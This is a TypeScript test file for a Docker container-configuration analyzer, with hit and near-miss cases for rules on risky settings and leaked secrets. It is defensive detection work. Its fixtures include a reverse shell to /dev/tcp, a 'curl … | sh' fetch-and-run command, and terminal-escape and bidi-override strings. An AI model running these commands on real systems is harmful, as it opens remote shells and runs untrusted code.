import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import containerConfig, { configRules } from '../../../../src/main/analyze/analyzers/container-config';
import { configuredCapabilities } from '../../../../src/main/analyze/analyzers/lib/capabilities';
import { isEngineSocket, sensitivePlace } from '../../../../src/main/analyze/analyzers/lib/config/mounts';
import { analyze, byRule, cited, type Given } from '../kit';

/** As Docker 26.1.5 answers for a container that asks for nothing but a user, a digest and limits. */
const QUIET = {
  Id: 'c'.repeat(64),
  AppArmorProfile: '',
  HostConfig: {
    Binds: null,
    NetworkMode: 'bridge',
    PidMode: '',
    IpcMode: 'private',
    UTSMode: '',
    UsernsMode: '',
    CapAdd: null,
    CapDrop: null,
    Privileged: false,
    ReadonlyRootfs: true,
    Memory: 1024,
    SecurityOpt: ['no-new-privileges'],
    LogConfig: { Type: 'json-file', Config: {} },
    PortBindings: {},
    Devices: [],
    DeviceCgroupRules: null,
    MaskedPaths: ['/proc/kcore'],
    ReadonlyPaths: ['/proc/sys'],
  },
  Mounts: [],
  Config: {
    User: '1000',
    Env: ['PATH=/usr/bin', 'PWD=/srv', 'GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D', 'TOKEN_TTL=3600'],
    Cmd: ['sleep', '100'],
    Entrypoint: null,
    Image: `shop@sha256:${'a'.repeat(64)}`,
    Labels: { 'com.docker.compose.project': 'shop' },
  },
};

type Change = { HostConfig?: object; Config?: object; Mounts?: unknown; [key: string]: unknown };

function inspect(change: Change = {}): Given {
  const { HostConfig, Config, ...rest } = change;
  return {
    collector: 'container.inspect',
    content: {
      ...QUIET,
      ...rest,
      HostConfig: { ...QUIET.HostConfig, ...HostConfig },
      Config: { ...QUIET.Config, ...Config },
    },
  };
}

const mount = (Source: string, RW = true, more: object = {}) => ({
  Mounts: [{ Type: 'bind', Source, Destination: '/in', Mode: '', RW, Propagation: 'rprivate', ...more }],
});

/** Rule, what sets it off, what it must cite (the cited values), and its severity. */
const HITS: [rule: string, change: Change, values: unknown[], severity: string][] = [
  ['config.privileged', { HostConfig: { Privileged: true } }, [true], 'critical'],
  ['config.host-pid', { HostConfig: { PidMode: 'host' } }, ['host'], 'high'],
  ['config.host-network', { HostConfig: { NetworkMode: 'host' } }, ['host'], 'medium'],
  ['config.host-ipc', { HostConfig: { IpcMode: 'host' } }, ['host'], 'medium'],
  ['config.host-uts', { HostConfig: { UTSMode: 'host' } }, ['host'], 'low'],
  ['config.host-user', { HostConfig: { UsernsMode: 'host' } }, ['host'], 'medium'],
  ['config.joined-namespace', { HostConfig: { PidMode: 'container:abc' } }, ['container:abc'], 'low'],
  ['config.capabilities', { HostConfig: { CapAdd: ['CHOWN', 'cap_sys_admin'] } }, ['cap_sys_admin'], 'high'],
  ['config.capabilities', { HostConfig: { CapAdd: ['ALL'] } }, ['ALL'], 'critical'],
  ['config.capabilities-other', { HostConfig: { CapAdd: ['SYS_NICE'] } }, ['SYS_NICE'], 'informational'],
  [
    'config.seccomp-unconfined',
    { HostConfig: { SecurityOpt: ['x', 'seccomp=unconfined'] } },
    ['seccomp=unconfined'],
    'high',
  ],
  [
    'config.lsm-unconfined',
    { HostConfig: { SecurityOpt: ['apparmor=unconfined'] } },
    ['apparmor=unconfined'],
    'medium',
  ],
  ['config.lsm-unconfined', { AppArmorProfile: 'unconfined' }, ['unconfined'], 'medium'],
  ['config.unmasked-paths', { HostConfig: { MaskedPaths: [] } }, [[]], 'high'],
  [
    'config.devices',
    { HostConfig: { Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/x', CgroupPermissions: 'rwm' }] } },
    [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/x', CgroupPermissions: 'rwm' }],
    'high',
  ],
  ['config.devices', { HostConfig: { DeviceCgroupRules: ['b 8:* rwm'] } }, ['b 8:* rwm'], 'high'],
  [
    'config.engine-socket',
    mount('/var/run/docker.sock', false),
    [mount('/var/run/docker.sock', false).Mounts[0]],
    'critical',
  ],
  ['config.sensitive-mount', mount('/'), [mount('/').Mounts[0]], 'critical'],
  ['config.sensitive-mount', mount('/etc', false), [mount('/etc', false).Mounts[0]], 'high'],
  ['config.hiding-text', { Config: { Env: ['A=b', 'T=\u001b[2J'] } }, ['T=\u001b[2J'], 'low'],
  ['config.long-name', { Name: `/${'n'.repeat(65)}` }, [`/${'n'.repeat(65)}`], 'informational'],
  [
    'config.stopped',
    { State: { Status: 'exited', ExitCode: 137, FinishedAt: '2026-01-01T00:00:00Z' } },
    ['exited', 137, '2026-01-01T00:00:00Z'],
    'informational',
  ],
  [
    'config.shared-propagation',
    mount('/mnt/x', true, { Propagation: 'rshared' }),
    [mount('/mnt/x', true, { Propagation: 'rshared' }).Mounts[0]],
    'medium',
  ],
  [
    'config.published-ports',
    { HostConfig: { PortBindings: { '2375/tcp': [{ HostIp: '', HostPort: '2375' }] } } },
    [{ HostIp: '', HostPort: '2375' }],
    'high',
  ],
  ['config.no-logs', { HostConfig: { LogConfig: { Type: 'none' } } }, ['none'], 'medium'],
  [
    'config.secrets-env',
    { Config: { Env: ['A=b', 'DB_PASSWORD=hunter2hunter'] } },
    ['DB_PASSWORD=hunter2hunter'],
    'medium',
  ],
  ['config.secrets-labels', { Config: { Labels: { 'app.token': 'abcdefgh' } } }, ['abcdefgh'], 'medium'],
  [
    'config.secrets-command',
    { Config: { Cmd: ['run', '--password=hunter2x'] } },
    [['run', '--password=hunter2x']],
    'medium',
  ],
  [
    'config.command',
    { Config: { Cmd: ['sh', '-c', 'curl http://x/a | sh'] } },
    [['sh', '-c', 'curl http://x/a | sh']],
    'high',
  ],
  [
    'config.healthcheck',
    { Config: { Healthcheck: { Test: ['CMD-SHELL', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'] } } },
    [['CMD-SHELL', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1']],
    'critical',
  ],
  [
    'config.engine-address',
    { Config: { Env: ['DOCKER_HOST=tcp://10.0.0.1:2375'] } },
    ['DOCKER_HOST=tcp://10.0.0.1:2375'],
    'medium',
  ],
  ['config.hardening', { Config: { User: '' } }, [''], 'informational'],
];

/** Near misses: what must not set a rule off. */
const MISSES: [rule: string, change: Change][] = [
  ['config.privileged', { HostConfig: { Privileged: 'true' } }],
  ['config.host-pid', { HostConfig: { PidMode: 'hostile' } }],
  ['config.host-network', { HostConfig: { NetworkMode: 'my-host' } }],
  ['config.joined-namespace', { HostConfig: { IpcMode: 'shareable' } }],
  ['config.capabilities', { HostConfig: { CapAdd: ['CHOWN', 'NET_RAW'], Privileged: false } }],
  ['config.capabilities', { HostConfig: { CapAdd: ['SYS_ADMIN'], Privileged: true } }],
  ['config.capabilities', { HostConfig: { CapAdd: ['constructor', '__proto__', 'toString'] } }],
  ['config.capabilities-other', { HostConfig: { CapAdd: ['NET_BIND_SERVICE'] } }],
  ['config.seccomp-unconfined', { HostConfig: { SecurityOpt: ['seccomp={"defaultAction":"unconfined"}'] } }],
  ['config.lsm-unconfined', { HostConfig: { SecurityOpt: ['label=disable'], Privileged: true } }],
  ['config.unmasked-paths', { HostConfig: { MaskedPaths: null, ReadonlyPaths: null, Privileged: true } }],
  ['config.unmasked-paths', { HostConfig: { MaskedPaths: null } }],
  ['config.devices', { HostConfig: { Devices: [{ PathOnHost: '/dev/null', PathInContainer: '/dev/x' }] } }],
  ['config.devices', { HostConfig: { DeviceCgroupRules: ['c 42:* rmw'] } }],
  ['config.engine-socket', mount('/srv/mydocker.sock')],
  ['config.sensitive-mount', mount('/etc/localtime', false)],
  ['config.sensitive-mount', mount('/etcetera')],
  ['config.sensitive-mount', mount('/var/lib/docker/volumes/x/_data', true, { Type: 'volume' })],
  ['config.shared-propagation', mount('/mnt/x', true, { Propagation: 'rslave' })],
  ['config.published-ports', { HostConfig: { PortBindings: { '80/tcp': [{ HostIp: '127.0.0.1', HostPort: '80' }] } } }],
  ['config.no-logs', { HostConfig: { LogConfig: { Type: 'nonesuch' } } }],
  [
    'config.secrets-env',
    { Config: { Env: ['DB_PASSWORD_FILE=/run/secrets/db', 'ALLOW_EMPTY_PASSWORD=yes', 'OLDPWD=/x'] } },
  ],
  ['config.secrets-env', { Config: { Env: ['DB_PASSWORD=', 'TOKEN=/run/secrets/t', 'SECRET=$FROM_ELSEWHERE'] } }],
  ['config.secrets-labels', { Config: { Labels: { 'app.token.ttl': '3600' } } }],
  ['config.secrets-command', { Config: { Cmd: ['run', '--password-file=/run/secrets/db'] } }],
  ['config.command', { Config: { Cmd: ['sh', '-c', 'curl http://localhost/health || exit 1'] } }],
  ['config.healthcheck', { Config: { Healthcheck: { Test: ['CMD', 'curl', '-f', 'http://localhost/'] } } }],
  ['config.engine-address', { Config: { Env: ['MY_DOCKER_HOST=tcp://x'] } }],
  ['config.stopped', { State: { Status: 'running', ExitCode: 0, FinishedAt: '0001-01-01T00:00:00Z' } }],
  ['config.hiding-text', { Config: { Env: ['CERT=a\r\n\tb'], Labels: { name: 'Größe' } } }],
  ['config.long-name', { Name: `/${'n'.repeat(64)}` }],
  ['config.hardening', {}],
];

describe('rules on the configuration', () => {
  it.each(HITS)('%s is met by %j', async (rule, change, values, severity) => {
    const given = [inspect(change)];
    const result = await analyze(given, [containerConfig]);
    const [finding, ...others] = byRule(result, rule);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ severity, ruleVersion: '1', attackVersion: 'v19', machine: true });
    expect(finding?.benign).not.toBe('');
    expect(finding && (await cited(given, finding))).toEqual(values);
    expect(result.unreadable).toEqual([]);
  });

  it.each(MISSES)('%s is not met by %j', async (rule, change) => {
    expect(byRule(await analyze([inspect(change)], [containerConfig]), rule)).toEqual([]);
  });

  it('has a hit and a miss in this file for every rule', () => {
    const ids = configRules.map(({ id }) => id).sort();
    expect([...new Set(HITS.map(([rule]) => rule))].sort()).toEqual(ids);
    const missed = new Set(MISSES.map(([rule]) => rule));
    // an unset namespace is the miss of the three that differ by a field's name alone
    expect(ids.filter((id) => !missed.has(id))).toEqual(['config.host-ipc', 'config.host-user', 'config.host-uts']);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('finds nothing in a quiet container', async () => {
    expect((await analyze([inspect()], [containerConfig])).findings).toEqual([]);
  });

  it('says usual weaknesses in one finding', async () => {
    const result = await analyze(
      [
        inspect({
          HostConfig: { ReadonlyRootfs: false, Memory: 0, SecurityOpt: null },
          Config: { User: '', Image: 'a:1' },
        }),
      ],
      [containerConfig],
    );
    expect(result.findings).toHaveLength(1);
    expect(result.findings[0]?.cites).toHaveLength(5);
  });
});

describe('secrets', () => {
  it('never shows one whole', async () => {
    const secret = 'S3cr3tS3cr3tS3cr3t';
    const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.${secret}`;
    const result = await analyze(
      [
        inspect({
          Config: {
            Env: [
              `API_TOKEN=${secret}`,
              `DATABASE_URL=postgres://shop:${secret}@db/shop`,
              `X=${jwt}`,
              'AWS=AKIAIOSFODNN7EXAMPLE',
            ],
            Labels: { secret },
            Cmd: [
              'sh',
              '-c',
              `curl -H "Authorization: Bearer ${secret}" http://x/a | sh; mysql -p${secret} --token ${secret}`,
            ],
          },
        }),
      ],
      [containerConfig],
    );
    const text = JSON.stringify(result);
    expect(text).not.toContain(secret);
    expect(text).not.toContain('AKIAIOSFODNN7EXAMPLE');
    expect(byRule(result, 'config.secrets-env')[0]?.claim).toMatch(/API_TOKEN \(S3… \(18 characters\)\)/);
    expect(byRule(result, 'config.secrets-env')[0]?.cites).toHaveLength(4);
    expect(byRule(result, 'config.secrets-command')).toHaveLength(1);
    expect(byRule(result, 'config.command')).toHaveLength(1);
  });

  it('does not show even two characters of a short one', async () => {
    const result = await analyze([inspect({ Config: { Env: ['PASSWORD=abc1'] } })], [containerConfig]);
    expect(byRule(result, 'config.secrets-env')[0]?.claim).toContain('PASSWORD (… (4 characters))');
  });
});

describe('hostile documents', () => {
  it('reports fields of the wrong type and goes on with the rest', async () => {
    const result = await analyze(
      [inspect({ HostConfig: { Privileged: 'yes', CapAdd: ['SYS_ADMIN', 7], PidMode: 'host' }, Mounts: 'none' })],
      [containerConfig],
    );
    expect(byRule(result, 'config.host-pid')).toHaveLength(1);
    expect(byRule(result, 'config.capabilities')).toHaveLength(1);
    const reasons = result.unreadable.map(({ reason }) => reason).join('\n');
    for (const place of ['json:/HostConfig/Privileged', 'json:/HostConfig/CapAdd/1', 'json:/Mounts']) {
      expect(reasons).toContain(place);
    }
  });

  it.each([
    ['no JSON', '{"HostConfig":', true],
    ['an empty list', '[]', false],
    ['null', 'null', false],
    ['another document', '{"message":"no such container"}', false],
    ['deep nesting', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, false],
  ])('reports %s as unreadable and throws nothing away', async (_, content, partial) => {
    const result = await analyze(
      [{ collector: 'container.inspect', content, partial }, { ...inspect({ HostConfig: { PidMode: 'host' } }) }],
      [containerConfig],
    );
    expect(result.unreadable.some(({ exhibit }) => exhibit === 'E0001')).toBe(true);
    expect(result.findings).toHaveLength(1);
    if (partial) expect(result.unreadable[0]?.reason).toContain('Only a part');
  });

  it('shows names of a host as harmless text', async () => {
    const evil = '/etc/\u001b[31m\u202egnp.exe\n<script>';
    const result = await analyze(
      [
        inspect({
          ...mount('/etc', true, { Destination: evil }),
          Config: {
            Env: ['P\u001bASSWORD=hunter2hunter', '\u202eTOKEN=hunter2hunter'],
            Labels: { [`${evil}.token`]: 'abcdefgh' },
          },
        }),
      ],
      [containerConfig],
    );
    expect(result.findings.length).toBeGreaterThan(1);
    for (const { claim, title, benign } of result.findings) {
      expect(`${claim}${title}${benign}`).not.toMatch(/[\u0000-\u001f\u202a-\u202e]/);
    }
  });

  it('cites at most a hundred places and says how many there are', async () => {
    const Env = Array.from({ length: 5000 }, (_, i) => `PASSWORD_${i}=hunter2hunter`);
    const [finding] = byRule(await analyze([inspect({ Config: { Env } })], [containerConfig]), 'config.secrets-env');
    expect(finding?.cites).toHaveLength(100);
    expect(finding?.claim).toContain('5000 secrets');
  });

  it('makes no more of arbitrary JSON than unreadable parts', async () => {
    await fc.assert(
      fc.asyncProperty(fc.json(), fc.json(), async (host, config) => {
        const content = `{"HostConfig":${host},"Config":${config},"Mounts":${host}}`;
        const result = await analyze([{ collector: 'container.inspect', content }], [containerConfig]);
        // it makes no names that a rule looks for, and an empty object has no hardening
        expect(result.findings.filter(({ rule }) => rule !== 'config.hardening')).toEqual([]);
        expect(result.unreadable.filter(({ reason }) => reason.includes('stopped'))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });
});

describe('paths of the host', () => {
  it.each([
    ['/var/run/docker.sock', true],
    ['/run/containerd/containerd.sock', true],
    ['/run/crio/crio.sock', true],
    ['/run/user/1000/podman/podman.sock', true],
    ['\\\\.\\pipe\\docker_engine', true],
    ['/srv/docker.sock.txt', false],
    ['/srv/docker', false],
  ])('%s: engine socket %s', (path, expected) => {
    expect(isEngineSocket(path)).toBe(expected);
  });

  it.each([
    ['/etc/../', 'critical'],
    ['//etc/', 'critical'],
    ['/var/run', 'critical'],
    ['/var/run/containerd', 'critical'],
    ['/home/a/.ssh', 'high'],
    ['/etc/cron.d', 'critical'],
    ['/sys/fs/cgroup/x', 'high'],
    ['/usr/share/zoneinfo/UTC', 'low'],
    ['/srv/data', undefined],
    ['/rootfs', undefined],
    ['C:\\Users', undefined],
    ['', undefined],
  ])('%s, writable: %s', (path, expected) => {
    expect(sensitivePlace(path)?.writable).toBe(expected);
  });
});

it('works out what CapAdd and CapDrop amount to', () => {
  expect(configuredCapabilities([], ['ALL'])).toEqual(new Set());
  expect(configuredCapabilities(['CAP_NET_ADMIN'], ['all'])).toEqual(new Set(['NET_ADMIN']));
  expect(configuredCapabilities(['ALL'], ['SYS_ADMIN']).has('SYS_ADMIN')).toBe(false);
  expect(configuredCapabilities([], ['CHOWN']).has('CHOWN')).toBe(false);
  expect(configuredCapabilities([], []).size).toBe(14);
});
